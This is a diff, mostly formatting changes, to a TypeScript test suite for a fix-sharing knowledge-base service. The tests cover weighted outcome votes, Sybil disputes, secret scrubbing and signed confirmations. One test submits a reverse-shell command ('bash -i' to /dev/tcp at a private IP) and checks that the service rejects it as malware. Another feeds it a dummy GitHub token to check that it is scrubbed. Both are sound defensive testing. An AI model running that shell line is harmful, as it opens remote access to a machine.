@@ -32,8 +32,18 @@ async function publish(who: Who, fix: string): Promise<string> {
 }
 
 const outcome = (who: Who, id: string, body: Record<string, unknown>, net = who.net) => call(s, 'POST', `/k/${id}/outcome`, { as: who, net, json: body });
-const json = async <T = Record<string, unknown>>(path: string): Promise<T> => JSON.parse((await call(s, 'GET', path, { headers: { accept: 'application/json' } })).text) as T;
-type Outcomes = { worked: number; worked_w: number; changes: number; changes_w: number; failed: number; failed_w: number; principals: number; disputed: boolean };
+const json = async <T = Record<string, unknown>>(path: string): Promise<T> =>
+  JSON.parse((await call(s, 'GET', path, { headers: { accept: 'application/json' } })).text) as T;
+type Outcomes = {
+  worked: number;
+  worked_w: number;
+  changes: number;
+  changes_w: number;
+  failed: number;
+  failed_w: number;
+  principals: number;
+  disputed: boolean;
+};
 
 beforeAll(async () => {
   // Fifty registrations at once load the event loop: measured shedding would refuse the reads after.
@@ -63,7 +73,11 @@ beforeAll(async () => {
   for (const [i, name] of ['l1a', 'l1b', 'l1c'].entries()) {
     const w = await agent(s, name);
     makeL1(w);
-    const r = await outcome(w, wrong, { kind: 'did-not-work', note: i === 0 ? 'uninstalling broke <b>every</b> import; reinstalling fixed it' : `still ModuleNotFoundError (${name})`, evidence: { cmd: 'python -c "import zzqsybil"', exit_before: 1, exit_after: 1, versions: 'python@3.12' } });
+    const r = await outcome(w, wrong, {
+      kind: 'did-not-work',
+      note: i === 0 ? 'uninstalling broke <b>every</b> import; reinstalling fixed it' : `still ModuleNotFoundError (${name})`,
+      evidence: { cmd: 'python -c "import zzqsybil"', exit_before: 1, exit_after: 1, versions: 'python@3.12' },
+    });
     expect(r.status).toBe(200);
     expect((await outcome(w, right, { kind: 'worked' })).status).toBe(200);
   }
@@ -90,19 +104,29 @@ describe('a Sybil case', () => {
     expect(lines[0]).toMatch(new RegExp(`^e: \\S.* match=\\w+ disputed=k/${wrong}$`));
     const named = lines.filter((l) => /^(related: )?k\//.test(l)).map((l) => /k\/(k[0-9a-z]{8})/.exec(l)![1]);
     expect(named).toEqual([right, wrong]);
-    const j = JSON.parse((await call(s, 'POST', '/e?f=json', { text: ERROR })).text) as { entries: Array<{ id: string; disputed: boolean }>; related: Array<{ id: string; disputed?: boolean }> };
+    const j = JSON.parse((await call(s, 'POST', '/e?f=json', { text: ERROR })).text) as {
+      entries: Array<{ id: string; disputed: boolean }>;
+      related: Array<{ id: string; disputed?: boolean }>;
+    };
     const listed = [...j.entries, ...j.related];
-    expect(listed.map((x) => [x.id, x.disputed])).toEqual([[right, false], [wrong, true]]);
+    expect(listed.map((x) => [x.id, x.disputed])).toEqual([
+      [right, false],
+      [wrong, true],
+    ]);
     // GET /h/{hex}: the signature's entries, undisputed first; its fix is the right one.
     const h = (await json<{ h: string }>(`/k/${right}.json`)).h;
     const byHash = await call(s, 'GET', `/h/${h}`);
     expect(byHash.text.split('\n')[0]).toBe(`h: ${h.slice(0, 12)} hits=2 match=exact disputed=k/${wrong}`);
-    expect(byHash.text.split('\n')[1]).toMatch(new RegExp(`^k/${right} score=-47 confirms=3 fails=50 worked=3/1\\.6\\d? changes=0/0 failed=50/0\\.1\\d principals=4 disputed=no `));
-    expect(byHash.text.split('\n')[2]).toMatch(new RegExp(`^k/${wrong} score=47 confirms=50 fails=3 worked=50/0\\.1\\d changes=0/0 failed=3/1\\.6\\d? principals=4 disputed=yes `));
+    expect(byHash.text.split('\n')[1]).toMatch(
+      new RegExp(`^k/${right} score=-47 confirms=3 fails=50 worked=3/1\\.6\\d? changes=0/0 failed=50/0\\.1\\d principals=4 disputed=no `),
+    );
+    expect(byHash.text.split('\n')[2]).toMatch(
+      new RegExp(`^k/${wrong} score=47 confirms=50 fails=3 worked=50/0\\.1\\d changes=0/0 failed=3/1\\.6\\d? principals=4 disputed=yes `),
+    );
     expect(byHash.text).toContain('fix: pip install zzqsybil inside the active virtualenv');
   });
 
-  it('the authors\' reputation and confirmed count follow the weighted outcomes', async () => {
+  it("the authors' reputation and confirmed count follow the weighted outcomes", async () => {
     expect((await call(s, 'GET', `/a/${wrongAuthor.id}`)).text).toMatch(/ rep=0 since=\S+ fixes=1 confirmed=0 /);
     expect((await call(s, 'GET', `/a/${rightAuthor.id}`)).text).toMatch(/ rep=8 since=\S+ fixes=1 confirmed=1 /);
   });
@@ -111,12 +135,18 @@ describe('a Sybil case', () => {
 describe('a disputed entry on every face', () => {
   it('REST text, JSON, markdown: the first line says so; the notes of those it failed for are shown', async () => {
     const t = (await call(s, 'GET', `/k/${wrong}`)).text.trimEnd().split('\n');
-    expect(t[0]).toMatch(new RegExp(`^k ${wrong} score=47 confirms=50 fails=3 hits=\\d+ eco=pypi by ${wrongAuthor.id} \\d{4}-\\d\\d-\\d\\d untrusted disputed$`));
+    expect(t[0]).toMatch(
+      new RegExp(`^k ${wrong} score=47 confirms=50 fails=3 hits=\\d+ eco=pypi by ${wrongAuthor.id} \\d{4}-\\d\\d-\\d\\d untrusted disputed$`),
+    );
     expect(t[1]).toMatch(/^outcomes: worked=50\/0\.1\d changes=0\/0 failed=3\/1\.6\d? principals=4 disputed=yes$/);
     expect(t[2]).toMatch(/^disputed: weighted did-not-work 1\.6\d? outweighs worked 0\.1\d; check the notes below/);
     const failed = t.slice(t.indexOf('did not work:') + 1, -1);
     expect(failed).toHaveLength(3);
-    expect(failed.some((l) => l.includes('uninstalling broke <b>every</b> import; reinstalling fixed it (cmd="python -c \\"import zzqsybil\\"" exit=1->1 versions=python@3.12)'))).toBe(true);
+    expect(
+      failed.some((l) =>
+        l.includes('uninstalling broke <b>every</b> import; reinstalling fixed it (cmd="python -c \\"import zzqsybil\\"" exit=1->1 versions=python@3.12)'),
+      ),
+    ).toBe(true);
     expect(t.at(-1)).toMatch(/^next: /);
     // The right entry is not disputed: no label on its first line.
     expect((await call(s, 'GET', `/k/${right}`)).text.split('\n')[0]).toMatch(/ untrusted$/);
@@ -126,7 +156,9 @@ describe('a disputed entry on every face', () => {
     const md = (await call(s, 'GET', `/k/${wrong}.md`)).text;
     expect(md.split('\n')[0]).toBe('# Disputed: No module named zzqsybil');
     expect(md).toContain('## Did not work');
-    expect(md).toMatch(/Outcomes: worked 50 \(weighted 0\.1\d\) · worked with changes 0 \(weighted 0\) · did not work 3 \(weighted 1\.6\d?\) · 4 distinct principals · disputed\./);
+    expect(md).toMatch(
+      /Outcomes: worked 50 \(weighted 0\.1\d\) · worked with changes 0 \(weighted 0\) · did not work 3 \(weighted 1\.6\d?\) · 4 distinct principals · disputed\./,
+    );
   });
 
   it('the page says it first, escapes the notes, and is not offered to search engines', async () => {
@@ -182,7 +214,10 @@ describe('a disputed entry on every face', () => {
 describe('one outcome per identity', () => {
   it('changing it counts once; worked-with-changes notes are shown under the fix; a secret in a note is refused', async () => {
     const author = await agent(s, 'chauthor');
-    const r = await call(s, 'POST', '/k', { as: author, json: { error: "ModuleNotFoundError: No module named 'zzqchanges'", fix: 'pip install zzqchanges in the venv', eco: 'pypi' } });
+    const r = await call(s, 'POST', '/k', {
+      as: author,
+      json: { error: "ModuleNotFoundError: No module named 'zzqchanges'", fix: 'pip install zzqchanges in the venv', eco: 'pypi' },
+    });
     const id = /^ok k\/(k[0-9a-z]{8})/.exec(r.text)![1]!;
     const x = await agent(s, 'changer');
     expect((await call(s, 'POST', `/k/${id}/ok`, { as: x })).text).toBe(`ok k/${id} confirms=1 fails=0 score=1\n`);
@@ -190,23 +225,48 @@ describe('one outcome per identity', () => {
     const fail = await outcome(x, id, { kind: 'did-not-work' });
     expect(fail.text.split('\n')[0]).toBe(`ok k/${id} outcome=did-not-work changed`);
     expect(fail.text.split('\n')[1]).toBe('outcomes: worked=0/0 changes=0/0 failed=1/0.13 principals=1 disputed=no');
-    const chg = await outcome(x, id, { kind: 'worked-with-changes', note: 'needed --no-build-isolation too', evidence: { cmd: 'pip install zzqchanges', exit_before: 1, exit_after: 0 } });
+    const chg = await outcome(x, id, {
+      kind: 'worked-with-changes',
+      note: 'needed --no-build-isolation too',
+      evidence: { cmd: 'pip install zzqchanges', exit_before: 1, exit_after: 0 },
+    });
     expect(chg.text.split('\n')[1]).toBe('outcomes: worked=0/0 changes=1/0.13 failed=0/0 principals=1 disputed=no');
     // The same again is no change (and no error: the operation is idempotent).
-    expect((await outcome(x, id, { kind: 'worked-with-changes', note: 'needed --no-build-isolation too', evidence: { cmd: 'pip install zzqchanges', exit_before: 1, exit_after: 0 } })).text.split('\n')[0]).toBe(`ok k/${id} outcome=worked-with-changes same`);
-    const j = await json<{ confirms: number; fails: number; outcomes: Outcomes; notes: { changes: Array<{ note: string; evidence: object }> } }>(`/k/${id}.json`);
+    expect(
+      (
+        await outcome(x, id, {
+          kind: 'worked-with-changes',
+          note: 'needed --no-build-isolation too',
+          evidence: { cmd: 'pip install zzqchanges', exit_before: 1, exit_after: 0 },
+        })
+      ).text.split('\n')[0],
+    ).toBe(`ok k/${id} outcome=worked-with-changes same`);
+    const j = await json<{ confirms: number; fails: number; outcomes: Outcomes; notes: { changes: Array<{ note: string; evidence: object }> } }>(
+      `/k/${id}.json`,
+    );
     expect(j).toMatchObject({ confirms: 1, fails: 0, outcomes: { worked: 0, changes: 1, failed: 0, principals: 1, disputed: false } });
-    expect(j.notes.changes).toEqual([{ note: 'needed --no-build-isolation too', evidence: { cmd: 'pip install zzqchanges', exit_before: 1, exit_after: 0 }, at: expect.any(String) }]);
+    expect(j.notes.changes).toEqual([
+      { note: 'needed --no-build-isolation too', evidence: { cmd: 'pip install zzqchanges', exit_before: 1, exit_after: 0 }, at: expect.any(String) },
+    ]);
     const t = (await call(s, 'GET', `/k/${id}`)).text.split('\n');
     const fixAt = t.indexOf('fix:');
-    expect(t.slice(fixAt, fixAt + 4)).toEqual(['fix:', '  pip install zzqchanges in the venv', 'worked with changes:', expect.stringMatching(/^ {2}- \d{4}-\d\d-\d\d needed --no-build-isolation too \(cmd="pip install zzqchanges" exit=1->0\)$/)]);
+    expect(t.slice(fixAt, fixAt + 4)).toEqual([
+      'fix:',
+      '  pip install zzqchanges in the venv',
+      'worked with changes:',
+      expect.stringMatching(/^ {2}- \d{4}-\d\d-\d\d needed --no-build-isolation too \(cmd="pip install zzqchanges" exit=1->0\)$/),
+    ]);
     const html = (await call(s, 'GET', `/kb/${id}`, { headers: { accept: 'text/html' } })).text;
     expect(html.indexOf('<h3>Worked with changes</h3>')).toBeGreaterThan(html.indexOf('<h2>Fix</h2>'));
     // Bad input: one line each, nothing recorded.
-    expect((await outcome(x, id, { kind: 'worked', note: 'token ghp_0123456789abcdefghijABCDEFGHIJ012345 helped' })).text).toMatch(/^err scrub github note@\d+\n$/);
+    expect((await outcome(x, id, { kind: 'worked', note: 'token ghp_0123456789abcdefghijABCDEFGHIJ012345 helped' })).text).toMatch(
+      /^err scrub github note@\d+\n$/,
+    );
     expect((await outcome(x, id, { kind: 'maybe' })).text).toMatch(/^err bad kind/);
     expect((await outcome(x, id, { kind: 'worked', note: 'x'.repeat(301) })).text).toMatch(/^err bad note/);
-    expect((await outcome(x, id, { kind: 'worked', evidence: { cmd: 'export GITHUB_TOKEN=ghp_0123456789abcdefghijABCDEFGHIJ012345' } })).text).toMatch(/^err scrub github evidence\.cmd@\d+\n$/);
+    expect((await outcome(x, id, { kind: 'worked', evidence: { cmd: 'export GITHUB_TOKEN=ghp_0123456789abcdefghijABCDEFGHIJ012345' } })).text).toMatch(
+      /^err scrub github evidence\.cmd@\d+\n$/,
+    );
     expect((await outcome(x, id, { kind: 'worked', evidence: { exit_after: 256 } })).text).toMatch(/^err bad evidence\.exit_after/);
     expect((await outcome(x, id, { kind: 'worked', evidence: { cmd: 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' } })).text).toBe('err hazard malware\n');
     expect((await outcome(x, 'kzzzzzzzz', { kind: 'worked' })).status).toBe(404);
@@ -226,7 +286,9 @@ describe('one outcome per identity', () => {
     const z = await agent(s, 'a2avoter');
     const a2a = await skill(s, z, 'kb.outcome', { id, kind: 'did-not-work', note: 'no change on arm64' });
     expect(skillText(a2a)!.split('\n')[0]).toBe(`ok k/${id} outcome=did-not-work new`);
-    expect((await json<{ outcomes: Outcomes; notes: { failed: Array<{ note: string }> } }>(`/k/${id}.json`)).notes.failed.map((n) => n.note)).toEqual(['no change on arm64']);
+    expect((await json<{ outcomes: Outcomes; notes: { failed: Array<{ note: string }> } }>(`/k/${id}.json`)).notes.failed.map((n) => n.note)).toEqual([
+      'no change on arm64',
+    ]);
   });
 });
 
@@ -244,7 +306,9 @@ describe('signed outcomes', () => {
     expect((await json<{ outcomes: Outcomes }>(`/k/${wrong}.json`)).outcomes.failed).toBe(3);
     const ok = await outcome(k, wrong, { kind: 'did-not-work', note: 'signed: it did not work', sig: await sign(`${DOMAIN} ${wrong} ${k.id} did-not-work`) });
     expect(ok.text.split('\n')[0]).toBe(`ok k/${wrong} outcome=did-not-work new signed disputed`);
-    const list = await json<{ domain: string; rows: Array<{ id: string; kind: string; payload: string; pub: string; sig: string }> }>(`/k/${wrong}/confirms.json`);
+    const list = await json<{ domain: string; rows: Array<{ id: string; kind: string; payload: string; pub: string; sig: string }> }>(
+      `/k/${wrong}/confirms.json`,
+    );
     const row = list.rows.find((r) => r.id === k.id)!;
     expect(row).toMatchObject({ kind: 'did-not-work', payload: `${DOMAIN} ${wrong} ${k.id} did-not-work`, pub });
     // Anyone verifies it with openssl, from the row alone, against the key the identity publishes.
@@ -259,7 +323,11 @@ describe('signed outcomes', () => {
     const shard = async (kind: string) => {
       const name = listing.files.find((f) => f.name.startsWith(`${kind}-`) && f.name.endsWith('.jsonl.gz'))!.name;
       const body = Buffer.from(await (await req(s, 'GET', `/export/${name}`)).arrayBuffer());
-      return gunzipSync(body).toString('utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l) as Record<string, unknown>);
+      return gunzipSync(body)
+        .toString('utf8')
+        .split('\n')
+        .filter(Boolean)
+        .map((l) => JSON.parse(l) as Record<string, unknown>);
     };
     const exported = (await shard('kb')).find((r) => r.id === wrong)!;
     expect(exported).toMatchObject({ disputed: true, outcomes: { worked: 50, changes: 0, failed: 4, principals: 5, disputed: true } });
@@ -269,7 +337,9 @@ describe('signed outcomes', () => {
     // The three-field form still signs a confirmation (worked) on POST /k/{id}/ok.
     const three = await call(s, 'POST', `/k/${right}/ok`, { as: k, json: { sig: await sign(`${DOMAIN} ${right} ${k.id}`) } });
     expect(three.text).toMatch(/ signed\n$/);
-    const rrow = (await json<{ rows: Array<{ id: string; kind: string; payload: string; sig: string; pub: string }> }>(`/k/${right}/confirms.json`)).rows.find((r) => r.id === k.id)!;
+    const rrow = (await json<{ rows: Array<{ id: string; kind: string; payload: string; sig: string; pub: string }> }>(`/k/${right}/confirms.json`)).rows.find(
+      (r) => r.id === k.id,
+    )!;
     expect(rrow).toMatchObject({ kind: 'worked', payload: `${DOMAIN} ${right} ${k.id}` });
     expect(opensslVerify(rrow.pub, canonical('conf1', rrow.payload), Buffer.from(rrow.sig, 'base64url'))).toBe(true);
     // Its outcome changes, unsigned: the signed statement no longer states it and goes.
